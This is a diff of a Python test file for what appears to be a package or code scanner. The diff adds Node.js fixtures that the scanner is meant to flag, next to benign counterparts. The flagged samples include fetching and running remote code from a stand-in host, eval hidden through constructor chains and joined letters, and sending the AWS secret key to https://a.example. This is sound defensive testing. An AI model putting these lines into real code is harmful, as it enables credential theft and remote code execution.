@@ -145,7 +145,7 @@ def _cached() -> str:
     return f"python/__pycache__/mod.{sys.implementation.cache_tag}.pyc"
 
 
-def _elf(machine: int = 62, *, stack: int = 6, bits: int = 2) -> bytes:
+def elf(machine: int = 62, *, stack: int = 6, bits: int = 2) -> bytes:
     """The least that is a shared object."""
     header = struct.pack("<4sBBBBB7xHHIQQQIHHHHHH", b"\x7fELF", bits, 1, 1, 0, 0, 3, machine, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
     return header + struct.pack("<IIQQQQQQ", 0x6474E551, stack, 0, 0, 0, 0, 0, 16)
@@ -566,18 +566,42 @@ SECRETS = (
     ),
 )
 BINARIES = (
-    Trick("other machine", ("wrong-machine",), _so(_elf(183)), _so(_elf(62))),
+    Trick("other machine", ("wrong-machine",), _so(elf(183)), _so(elf(62))),
     Trick(
         "other version of Python",
         ("wrong-abi",),
-        _so(_elf(), "python/x.cpython-310-x86_64-linux-gnu.so"),
-        _so(_elf(), "python/x.abi3.so"),
+        _so(elf(), "python/x.cpython-310-x86_64-linux-gnu.so"),
+        _so(elf(), "python/x.abi3.so"),
     ),
-    Trick("executable stack", ("executable-stack",), _so(_elf(stack=7)), _so(_elf(stack=6))),
-    Trick("cut off", ("broken-binary",), _so(_elf()[:70])),
+    Trick("executable stack", ("executable-stack",), _so(elf(stack=7)), _so(elf(stack=6))),
+    Trick("cut off", ("broken-binary",), _so(elf()[:70])),
     Trick("another system", ("foreign-binary",), _so(b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(100))),
 )
 NODE = (
+    Trick(
+        "downloaded script",
+        ("dynamic-code",),
+        _files({"nodejs/a.js": 'fetch("https://a.example/x").then(r => r.text()).then(t => new Function(t)())\n'}),
+        _files({"nodejs/a.js": 'fetch("https://a.example/x").then(r => r.json()).then(t => console.log(t))\n'}),
+    ),
+    Trick(
+        "constructor of a constructor",
+        ("hidden-call",),
+        _files({"nodejs/a.js": '[]["constructor"]["constructor"]("return process")().exit()\n'}),
+        _files({"nodejs/a.js": 'module.exports = x => x["constructor"]["name"]\n'}),
+    ),
+    Trick(
+        "name of letters in a list",
+        ("hidden-call",),
+        _files({"nodejs/a.js": 'globalThis[["e", "v", "a", "l"].join("")]("1")\n'}),
+        _files({"nodejs/a.js": 'console.log(["e", "v"].join(""))\n'}),
+    ),
+    Trick(
+        "keys of the role",
+        ("sends-secrets",),
+        _files({"nodejs/a.js": 'fetch("https://a.example/?k=" + process.env.AWS_SECRET_ACCESS_KEY)\n'}),
+        _files({"nodejs/a.js": 'fetch("http://localhost:2773/x", {headers: {t: process.env.AWS_SESSION_TOKEN}})\n'}),
+    ),
     Trick(
         "script of an installation",
         ("install-hook",),
